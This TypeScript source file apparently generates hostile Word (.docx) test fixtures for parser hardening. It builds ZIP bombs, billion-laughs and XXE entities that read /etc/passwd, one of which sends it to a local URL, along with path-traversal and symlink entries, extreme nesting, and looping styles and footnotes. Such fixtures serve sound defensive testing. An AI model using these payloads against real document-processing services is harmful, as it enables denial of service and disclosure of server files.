/** Word files (.docx) that unfold, nest, loop or point outside. */
import { megabyteOf, rawDeflateBomb } from '../bytes/deflate-bomb.ts'
import { documentRelationships, documentXml, HONEST, NAMESPACES, PACKAGE, paragraph, writeDocx, XML } from '../bytes/docx-bytes.ts'
import { writeZip, type ZipEntry } from '../bytes/zip-bytes.ts'
import { byMechanism, type HostileFile } from '../hostile-file.ts'

const DOCUMENT = 'word/document.xml'
const nested = (open: string, inner: string, close: string, depth: number): string => `${open.repeat(depth)}${inner}${close.repeat(depth)}`

const zips = byMechanism('ZIP bomb in .docx', [
  { name: 'document-of-1-gigabyte.docx', make: () => withPacked(rawDeflateBomb(megabyteOf(' '), 1024), 1024 ** 3) },
  { name: 'document-of-1-gigabyte-that-claims-4-kilobytes.docx', make: () => withPacked(rawDeflateBomb(megabyteOf(' '), 1024), 4096), short: true },
  { name: 'media-of-3-gigabytes.docx', make: () => writeDocx(documentXml(HONEST), [{ path: 'word/media/image1.png', data: rawDeflateBomb(megabyteOf('\0'), 3072), method: 8, claimedSize: 3 * 1024 ** 3 }]) },
  { name: 'styles-of-500-megabytes.docx', make: () => writeDocx(documentXml(HONEST), [documentRelationships([{ type: 'styles', target: 'styles.xml' }]), { path: 'word/styles.xml', data: rawDeflateBomb(megabyteOf('<w:style/>'), 500), method: 8, claimedSize: 1000 }]) },
  ...['numbering', 'footnotes', 'theme', 'settings'].map((part) => ({ name: `${part}-of-500-megabytes.docx`, make: () => writeDocx(documentXml(HONEST), [documentRelationships([{ type: part, target: `${part}.xml` }]), { path: `word/${part}.xml`, data: rawDeflateBomb(megabyteOf('<w:num/>'), 500), method: 8, claimedSize: 2000 }]) })),
  { name: 'content-types-of-1-gigabyte.docx', make: () => writeZip([{ path: '[Content_Types].xml', data: rawDeflateBomb(megabyteOf('<Default/>'), 1024), method: 8, claimedSize: 500 }, ...PACKAGE.slice(1), { path: DOCUMENT, data: documentXml(HONEST) }]) },
  { name: 'relationships-of-500-megabytes.docx', make: () => writeDocx(documentXml(HONEST), [{ path: 'word/_rels/document.xml.rels', data: rawDeflateBomb(megabyteOf('<Relationship Id="a"/>'), 500), method: 8, claimedSize: 500 }]) },
  { name: 'document-of-300-megabytes-of-words.docx', make: () => withPacked(rawDeflateBomb(megabyteOf('<w:p><w:r><w:t>mitosis</w:t></w:r></w:p>'), 300), 300 * 1024 * 1024) },
])

const archives = byMechanism('ZIP archive of impossible entries', [
  { name: '50000-entries-over-one-data.docx', make: () => overlapping(50_000) },
  { name: '65000-empty-entries.docx', make: () => writeDocx(documentXml(HONEST), Array.from({ length: 60_000 }, (_, index): ZipEntry => ({ path: `word/media/${index}.png`, data: '', method: 0 }))) },
  { name: 'document-stands-twice.docx', make: () => writeDocx(documentXml(HONEST), [{ path: DOCUMENT, data: documentXml(paragraph('The second of two.')) }]) },
  { name: 'paths-that-climb-out.docx', make: () => writeDocx(documentXml(HONEST), ['../../../../etc/cron.d/evil', '/etc/passwd', 'C:\\evil.exe', '\\\\server\\share'].map((path) => ({ path, data: 'evil' }))) },
  { name: 'entry-that-is-a-link.docx', make: () => writeDocx(documentXml(HONEST), [{ path: 'word/styles.xml', data: '/etc/passwd', externalAttributes: 0o120777 << 16 }]), bait: /root:x:0/ },
  { name: 'entries-encrypted.docx', make: () => writeZip([...PACKAGE, { path: DOCUMENT, data: documentXml(HONEST), flags: 0x0801 }]) },
  { name: 'comment-full-of-directory-ends.docx', make: () => writeZip([...PACKAGE, { path: DOCUMENT, data: documentXml(HONEST) }], { comment: Buffer.concat(Array.from({ length: 2900 }, () => Buffer.from('504b050600000000ffffffffffffffffffffffff0000', 'hex'))) }) },
  { name: 'claims-65535-entries.docx', make: () => writeZip([...PACKAGE, { path: DOCUMENT, data: documentXml(HONEST) }], { claimedEntries: 65_535 }) },
  { name: 'no-document-inside.docx', make: () => writeZip(PACKAGE) },
  { name: 'directory-beyond-the-end.docx', make: () => { const file = writeDocx(documentXml(HONEST)); file.writeUInt32LE(0x7fffffff, file.length - 6); return file } },
])

const entities = byMechanism('XML entities', [
  { name: 'a-billion-laughs.docx', make: () => writeDocx(`${XML}<!DOCTYPE w:document [${laughs()}]><w:document ${NAMESPACES}><w:body>${paragraph('&lol9;')}</w:body></w:document>`), short: true },
  { name: 'one-long-entity-100000-times.docx', make: () => writeDocx(`${XML}<!DOCTYPE w:document [<!ENTITY a "${'a'.repeat(100_000)}">]><w:document ${NAMESPACES}><w:body>${paragraph('&a;'.repeat(100_000))}</w:body></w:document>`) },
  { name: 'entity-from-a-file.docx', make: () => writeDocx(`${XML}<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document ${NAMESPACES}><w:body>${HONEST}${paragraph('&x;')}</w:body></w:document>`), bait: /root:x:0/, short: true },
  { name: 'picture-and-template-from-a-file.docx', make: () => writeDocx(documentXml(`${HONEST}<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rId1"/></w:drawing></w:r></w:p><w:altChunk r:id="rId2"/>`), [documentRelationships([{ type: 'image', target: 'file:///etc/passwd', external: true }, { type: 'aFChunk', target: 'file:///etc/passwd', external: true }, { type: 'attachedTemplate', target: 'http://127.0.0.1:9/evil.dotm', external: true }])]), bait: /root:x:0/ },
  { name: 'laughs-in-an-attribute.docx', make: () => writeDocx(`${XML}<!DOCTYPE w:document [${laughs()}]><w:document ${NAMESPACES}><w:body><w:p><w:pPr><w:pStyle w:val="&lol9;"/></w:pPr></w:p>${HONEST}</w:body></w:document>`) },
  { name: 'laughs-in-the-styles.docx', make: () => writeDocx(documentXml(HONEST), [documentRelationships([{ type: 'styles', target: 'styles.xml' }]), { path: 'word/styles.xml', data: `${XML}<!DOCTYPE w:styles [${laughs()}]><w:styles ${NAMESPACES}>&lol9;</w:styles>` }]) },
  { name: 'entity-that-names-itself.docx', make: () => writeDocx(`${XML}<!DOCTYPE w:document [<!ENTITY a "&b;"><!ENTITY b "&a;&a;">]><w:document ${NAMESPACES}><w:body>${HONEST}${paragraph('&a;')}</w:body></w:document>`) },
  { name: 'parameter-entities-from-outside.docx', make: () => writeDocx(`${XML}<!DOCTYPE w:document [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % g "<!ENTITY x SYSTEM 'http://127.0.0.1:9/?%f;'>">%g;%f;]><w:document ${NAMESPACES}><w:body>${HONEST}${paragraph('&x;')}</w:body></w:document>`), bait: /root:x:0/ },
  { name: 'doctype-of-5-megabytes.docx', make: () => writeDocx(`${XML}<!DOCTYPE w:document [${Array.from({ length: 120_000 }, (_, index) => `<!ENTITY e${index} "some words of it">`).join('')}]><w:document ${NAMESPACES}><w:body>${HONEST}${paragraph('&e7;')}</w:body></w:document>`) },
  { name: 'characters-that-xml-forbids.docx', make: () => writeDocx(documentXml(`${HONEST}${paragraph('&#0;&#x1F;&#xFFFFFFFF;&#xD800;&#99999999999;')}`)) },
])

const depths = byMechanism('XML nesting', [
  { name: 'elements-300000-deep.docx', make: () => writeDocx(documentXml(nested('<w:sdt><w:sdtContent>', HONEST, '</w:sdtContent></w:sdt>', 150_000))), short: true },
  { name: 'tables-3000-deep.docx', make: () => writeDocx(documentXml(nested('<w:tbl><w:tr><w:tc>', HONEST, '</w:tc></w:tr></w:tbl>', 3000))) },
  { name: 'paragraphs-5000-deep.docx', make: () => writeDocx(documentXml(nested('<w:p><w:r>', '<w:t>deep</w:t>', '</w:r></w:p>', 5000))) },
  { name: 'equation-20000-deep.docx', make: () => writeDocx(documentXml(`${HONEST}<w:p><m:oMath>${nested('<m:f><m:num>', '<m:r><m:t>x</m:t></m:r>', '</m:num><m:den><m:r><m:t>2</m:t></m:r></m:den></m:f>', 20_000)}</m:oMath></w:p>`)) },
  { name: 'fields-50000-deep.docx', make: () => writeDocx(documentXml(`${HONEST}<w:p>${'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE "</w:instrText></w:r>'.repeat(50_000)}</w:p>`)) },
  { name: 'text-boxes-and-fallbacks-16-times.docx', make: () => writeDocx(documentXml(doublingFallbacks(16))) },
  { name: 'elements-never-closed.docx', make: () => writeDocx(`${XML}<w:document ${NAMESPACES}><w:body>${'<w:p><w:r><w:t>open'.repeat(200_000)}`) },
  { name: 'quotes-within-quotes.docx', make: () => writeDocx(documentXml(nested('<w:p><w:pPr><w:pStyle w:val="Quote"/></w:pPr><w:ins><w:hyperlink>', paragraph('said'), '</w:hyperlink></w:ins></w:p>', 8000))) },
  { name: 'matrix-of-matrices-5000-deep.docx', make: () => writeDocx(documentXml(`${HONEST}<w:p><m:oMath>${nested('<m:m><m:mr><m:e>', '<m:r><m:t>1</m:t></m:r>', '</m:e></m:mr></m:m>', 5000)}</m:oMath></w:p>`)) },
  { name: 'insertions-and-links-100000-deep.docx', make: () => writeDocx(documentXml(`${HONEST}<w:p>${nested('<w:ins><w:hyperlink>', '<w:r><w:t>deep</w:t></w:r>', '</w:hyperlink></w:ins>', 50_000)}</w:p>`)) },
])

const amounts = byMechanism('Huge Word document', [
  { name: '100000-paragraphs.docx', make: () => writeDocx(documentXml(Array.from({ length: 100_000 }, (_, index) => paragraph(`Paragraph ${index} says that enzymes are proteins.`)).join(''))) },
  { name: 'table-of-1000-by-300.docx', make: () => writeDocx(documentXml(`<w:tbl>${`<w:tr>${`<w:tc>${paragraph('cell')}</w:tc>`.repeat(300)}</w:tr>`.repeat(1000)}</w:tbl>`)) },
  { name: 'paragraph-of-500000-runs.docx', make: () => writeDocx(documentXml(`<w:p>${'<w:r><w:rPr><w:b/></w:rPr><w:t>word </w:t></w:r>'.repeat(500_000)}</w:p>`)) },
  { name: 'paragraph-of-20-million-characters.docx', make: () => writeDocx(documentXml(paragraph('mitosis '.repeat(2_500_000)))) },
  { name: 'element-of-200000-attributes.docx', make: () => writeDocx(documentXml(`<w:p ${Array.from({ length: 200_000 }, (_, index) => `a${index}="x"`).join(' ')}>${HONEST}</w:p>`)) },
  { name: '30000-footnotes.docx', make: () => manyFootnotes(30_000) },
  { name: 'table-that-spans-2e9-columns.docx', make: () => writeDocx(documentXml(`<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/><w:vMerge w:val="restart"/></w:tcPr>${paragraph('wide')}</w:tc></w:tr><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/><w:vMerge/></w:tcPr>${paragraph('wide')}</w:tc></w:tr></w:tbl>${HONEST}`)) },
  { name: '50000-equations.docx', make: () => writeDocx(documentXml(Array.from({ length: 50_000 }, (_, index) => `<w:p><m:oMath><m:sSup><m:e><m:r><m:t>x</m:t></m:r></m:e><m:sup><m:r><m:t>${index}</m:t></m:r></m:sup></m:sSup></m:oMath></w:p>`).join(''))) },
  { name: '60000-headings.docx', make: () => writeDocx(documentXml(Array.from({ length: 60_000 }, (_, index) => `<w:p><w:pPr><w:outlineLvl w:val="${index % 9}"/></w:pPr><w:r><w:t>Heading ${index}</w:t></w:r></w:p>`).join(''))) },
  { name: '40000-styles.docx', make: () => writeDocx(documentXml(HONEST), [documentRelationships([{ type: 'styles', target: 'styles.xml' }]), { path: 'word/styles.xml', data: `${XML}<w:styles ${NAMESPACES}>${Array.from({ length: 40_000 }, (_, index) => style(`S${index}`, `S${index + 1}`)).join('')}</w:styles>` }]) },
])

const loops = byMechanism('Word styles and numberings that loop', [
  { name: 'style-based-on-itself.docx', make: () => writeDocx(documentXml(`<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>styled</w:t></w:r></w:p>${HONEST}`), [documentRelationships([{ type: 'styles', target: 'styles.xml' }]), { path: 'word/styles.xml', data: `${XML}<w:styles ${NAMESPACES}>${style('A', 'B')}${style('B', 'A')}</w:styles>` }]) },
  { name: 'numbering-style-is-itself.docx', make: () => writeDocx(documentXml(`<w:p><w:pPr><w:numPr><w:ilvl w:val="999999"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>numbered</w:t></w:r></w:p>${HONEST}`), [documentRelationships([{ type: 'numbering', target: 'numbering.xml' }, { type: 'styles', target: 'styles.xml' }]), { path: 'word/numbering.xml', data: `${XML}<w:numbering ${NAMESPACES}><w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="N"/></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>` }, { path: 'word/styles.xml', data: `${XML}<w:styles ${NAMESPACES}><w:style w:type="numbering" w:styleId="N"><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style></w:styles>` }]) },
  { name: 'footnote-in-its-own-text.docx', make: () => writeDocx(documentXml(`${HONEST}<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>`), [documentRelationships([{ type: 'footnotes', target: 'footnotes.xml' }]), { path: 'word/footnotes.xml', data: `${XML}<w:footnotes ${NAMESPACES}><w:footnote w:id="1"><w:p><w:r><w:footnoteReference w:id="1"/><w:t>again</w:t></w:r></w:p></w:footnote></w:footnotes>` }]) },
  { name: 'names-of-object-prototypes.docx', make: () => writeDocx(documentXml(`<w:p><w:pPr><w:pStyle w:val="__proto__"/><w:numPr><w:ilvl w:val="constructor"/><w:numId w:val="__proto__"/></w:numPr></w:pPr><w:r><w:t>named</w:t></w:r></w:p>${HONEST}`), [documentRelationships([{ type: 'styles', target: 'styles.xml' }]), { path: 'word/styles.xml', data: `${XML}<w:styles ${NAMESPACES}>${style('__proto__', 'constructor')}${style('constructor', '__proto__')}</w:styles>` }]) },
  { name: 'style-based-on-itself-directly.docx', make: () => writeDocx(documentXml(`<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>styled</w:t></w:r></w:p>${HONEST}`), [documentRelationships([{ type: 'styles', target: 'styles.xml' }]), { path: 'word/styles.xml', data: `${XML}<w:styles ${NAMESPACES}>${style('A', 'A')}</w:styles>` }]) },
  { name: 'styles-in-a-ring-of-5000.docx', make: () => writeDocx(documentXml(`<w:p><w:pPr><w:pStyle w:val="S0"/></w:pPr><w:r><w:t>styled</w:t></w:r></w:p>${HONEST}`), [documentRelationships([{ type: 'styles', target: 'styles.xml' }]), { path: 'word/styles.xml', data: `${XML}<w:styles ${NAMESPACES}>${Array.from({ length: 5000 }, (_, index) => style(`S${index}`, `S${(index + 1) % 5000}`)).join('')}</w:styles>` }]) },
  { name: 'two-footnotes-in-each-other.docx', make: () => writeDocx(documentXml(`${HONEST}<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>`), [documentRelationships([{ type: 'footnotes', target: 'footnotes.xml' }]), { path: 'word/footnotes.xml', data: `${XML}<w:footnotes ${NAMESPACES}>${[1, 2].map((id) => `<w:footnote w:id="${id}"><w:p><w:r><w:footnoteReference w:id="${3 - id}"/><w:t>note</w:t></w:r></w:p></w:footnote>`).join('')}</w:footnotes>` }]) },
  { name: 'list-level-named-1e300-and-minus-5.docx', make: () => writeDocx(documentXml(`${['1e300', '-5', '', 'NaN'].map((level) => `<w:p><w:pPr><w:outlineLvl w:val="${level}"/><w:numPr><w:ilvl w:val="${level}"/><w:numId w:val="${level}"/></w:numPr></w:pPr><w:r><w:t>numbered</w:t></w:r></w:p>`).join('')}${HONEST}`)) },
  { name: 'relationships-to-the-document-itself.docx', make: () => writeDocx(documentXml(HONEST), [documentRelationships([{ type: 'styles', target: 'document.xml' }, { type: 'numbering', target: 'document.xml' }, { type: 'footnotes', target: 'document.xml' }, { type: 'aFChunk', target: 'document.xml' }])]) },
  { name: 'chunk-that-is-the-document.docx', make: () => writeDocx(documentXml(`${HONEST}<w:altChunk r:id="rId1"/><w:altChunk r:id="rId1"/>`), [documentRelationships([{ type: 'aFChunk', target: 'document.xml' }])]) },
])

export const docxBombs: readonly HostileFile[] = [...zips, ...archives, ...entities, ...depths, ...amounts, ...loops]

const style = (id: string, basedOn: string): string => `<w:style w:type="paragraph" w:styleId="${id}"><w:name w:val="${id}"/><w:basedOn w:val="${basedOn}"/></w:style>`

function withPacked(data: Buffer, claimedSize: number): Buffer {
  return writeZip([...PACKAGE, { path: DOCUMENT, data, method: 8, claimedSize }])
}

/** Many entries of the directory share the data of one, as in Fifield's "better zip bomb". */
function overlapping(count: number): Buffer {
  const kernel: ZipEntry = { path: DOCUMENT, data: rawDeflateBomb(megabyteOf(' '), 64), method: 8, claimedSize: 64 * 1024 * 1024 }
  const others = Array.from({ length: count }, (_, index): ZipEntry => ({ ...kernel, path: `word/part${index}.xml`, dataOf: DOCUMENT }))
  return writeZip([...PACKAGE, kernel, ...others])
}

const laughs = (): string => `<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, index) => `<!ENTITY lol${index + 1} "${`&lol${index === 0 ? '' : index};`.repeat(10)}">`).join('')}`

/** Each level stands in a choice and in its fallback, so that naive walking doubles sixteen times. */
function doublingFallbacks(levels: number): string {
  let body = HONEST
  for (let level = 0; level < levels && body.length < 4_000_000; level += 1) {
    body = `<w:p><w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="wps"><w:txbxContent>${body}</w:txbxContent></mc:Choice><mc:Fallback><w:txbxContent>${body}</w:txbxContent></mc:Fallback></mc:AlternateContent></w:r></w:p>`
  }
  return body
}

function manyFootnotes(count: number): Buffer {
  const references = Array.from({ length: count }, (_, index) => `<w:r><w:footnoteReference w:id="${index}"/></w:r>`).join('')
  const notes = Array.from({ length: count }, (_, index) => `<w:footnote w:id="${index}">${paragraph('A note on cells.')}</w:footnote>`).join('')
  return writeDocx(documentXml(`${HONEST}<w:p>${references}</w:p>`), [documentRelationships([{ type: 'footnotes', target: 'footnotes.xml' }]), { path: 'word/footnotes.xml', data: `${XML}<w:footnotes ${NAMESPACES}>${notes}</w:footnotes>` }])
}
